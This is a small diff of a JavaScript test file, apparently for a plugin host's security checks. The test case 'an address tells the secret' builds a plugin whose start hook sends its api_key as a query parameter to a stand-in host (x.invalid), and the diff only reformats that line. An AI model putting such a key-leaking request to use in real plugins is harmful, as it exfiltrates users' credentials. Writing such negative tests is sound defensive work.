@@ -208,7 +208,9 @@ describe('the plugin suite fails a life in which', () => {
       'an address tells the secret',
       (good, { api_key }, host) => ({
         ...good,
-        start: async () => void (await host.http.request({ url: `https://x.invalid/?key=${api_key}` })),
+        start: async () => {
+          await host.http.request({ url: `https://x.invalid/?key=${api_key}` });
+        },
       }),
     ],
   ])('%s', async (_title, change) => {
